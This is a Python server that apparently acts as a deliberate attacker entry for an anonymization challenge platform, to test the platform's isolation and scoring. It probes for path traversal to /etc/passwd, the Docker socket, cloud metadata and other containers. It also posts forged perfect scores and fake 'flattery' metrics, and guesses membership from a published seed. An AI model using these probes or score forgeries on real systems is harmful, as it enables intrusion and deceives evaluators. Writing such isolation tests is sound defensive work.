"""An attack of contract web/1 that tries whatever it must not get, and logs what came of each attempt.

Its verdicts are what the published package's own shuffle would give away: they look at no data at all.
"""

import hashlib
import io
import os
import socket
from pathlib import Path

import anomed_utils as utils
import falcon
import numpy as np
import requests

CHALLENGE, TARGET = (f"http://{os.getenv(name)}" for name in ("CHALLENGE_HOST", "ATTACK_TARGET_HOST"))
EVALUATION = "data/attack-success-evaluation"
NAMES = {"anonymizer": "example_anonymizer", "deanonymizer": "example_deanonymizer"}
LEARNT = "learnt nothing"


def log(what: str, outcome: object) -> None:
    print(f"TRIED {what}: {outcome}", flush=True)


def asked(method: str, url: str, **more: object) -> str:
    """What an HTTP request came to: refused, or what was got."""
    try:
        answer = requests.request(method, url, timeout=5, **more)
    except requests.RequestException as error:
        return f"refused ({type(error).__name__})"
    got = answer.ok
    return f"GOT {answer.status_code} {len(answer.content)} bytes" if got else f"refused ({answer.status_code})"


def connected(host: str, port: int) -> str:
    try:
        with socket.create_connection((host, port), timeout=2):
            return "GOT a connection"
    except OSError as error:
        return f"refused ({error})"


def evaluation(**names: str) -> bytes:
    """The arrays that are told under these names, as bytes that can be compared."""
    answer = requests.get(f"{CHALLENGE}/{EVALUATION}", params={**names, "data_split": "validation"}, timeout=30)
    answer.raise_for_status()
    held = np.load(io.BytesIO(answer.content))
    return held["X"].tobytes() + held["y"].tobytes()


def guessed(rows: int) -> np.ndarray:
    """Who was in the training data, if the order came from the names alone, as in the published package."""
    seed = int(hashlib.sha256("".join(NAMES.values()).encode()).hexdigest(), 16)
    flags = np.arange(rows) < rows / 2
    return utils.shuffles([flags], seed=seed)[0]


class Fit:
    def on_post(self, request: falcon.Request, response: falcon.Response) -> None:
        for host, base in {"challenge": CHALLENGE, "target": TARGET}.items():
            for split in ("training", "tuning", "validation"):
                log(f"training data, {split}, {host}", asked("GET", f"{base}/data/anonymizer/{split}"))
            log(f"leaky table, {host}", asked("GET", f"{base}/data/anonymizer/leaky"))
        log("role of an anonymizer", asked("POST", f"{CHALLENGE}/utility/anonymizer?data_split=validation", data=b"x"))
        for route in ("fit", "evaluate?data_split=validation"):
            log(f"role of the platform, {route}", asked("POST", f"{TARGET}/{route}"))
        for path in ("plan.json", "..%2fplan.json", "../candidates.npz", "input/tuning_truth.npz", "%2e%2e/etc/passwd"):
            log(f"file {path}", asked("GET", f"{CHALLENGE}/{path}"))
        for path in ("/input", "/output", "/var/run/docker.sock", "/run/docker.sock"):
            log(f"folder {path}", "GOT it" if Path(path).exists() else "refused (not there)")
        for host in ("172.17.0.1", "169.254.169.254", "host.docker.internal", "gateway.docker.internal"):
            log(f"host {host}", connected(host, 80))
        log("another container", connected("172.17.0.2", 80))
        for name in ("example-anonymizer", "example-challenge", "anonymizer"):
            log(f"another container {name}", connected(name, 80))
        for address, port in (("1.1.1.1", 53), ("example.com", 443)):
            log(f"internet {address}", connected(address, port))
        response.text, response.status = '{"message": "fitted"}', falcon.HTTP_CREATED


class Evaluation:
    def on_post(self, request: falcon.Request, response: falcon.Response) -> None:
        ours = evaluation(**NAMES)
        others = [evaluation(anonymizer=name, deanonymizer="0") for name in ("web-memoriser", "../1", "")]
        log("another identifier", f"refused ({LEARNT})" if {*others} == {ours} else "GOT other data")
        for split in ("training", "members", "", "validation/../training"):
            log(f"another split {split!r}", asked("GET", f"{CHALLENGE}/{EVALUATION}?data_split={split}"))
        rows = len(np.load(io.BytesIO(requests.get(f"{CHALLENGE}/{EVALUATION}?data_split=validation").content))["y"])
        for route in ("submissions/deanonymizer-evaluation-results", "scores", "evaluation"):
            log(f"a score of its own to /{route}", asked("POST", f"{CHALLENGE}/{route}", json={"tpr": 1.0, "fpr": 0.0}))
        # Scores of its own beside the verdicts, in case somebody reads them.
        flattery = {name: np.ones(1) for name in ("auc", "tpr", "leak", "advantage", "utility")}
        body = utils.named_ndarrays_to_bytes({"prediction": guessed(rows), **flattery})
        url = f"{CHALLENGE}/utility/deanonymizer"
        posted = requests.post(url, params={**NAMES, "data_split": "validation"}, data=body)
        response.text, response.status = posted.text, posted.status_code
        told = posted.json()
        log("its result from the answer", f"GOT {told}" if told else f"refused ({LEARNT})")
        perfect = utils.named_ndarrays_to_bytes({"prediction": np.ones(rows, dtype=bool)})
        for name in ("the same", "web-deanonymizer"):
            again = {**NAMES, "deanonymizer": name, "data_split": "validation"}
            log(f"a second validation as {name}", asked("POST", url, params=again, data=perfect))


class Alive:
    def on_get(self, request: falcon.Request, response: falcon.Response) -> None:
        response.text = '{"message": "Deanonymizer server is alive!"}'


application = falcon.App()
application.add_route("/", Alive())
application.add_route("/fit", Fit())
application.add_route("/evaluate", Evaluation())
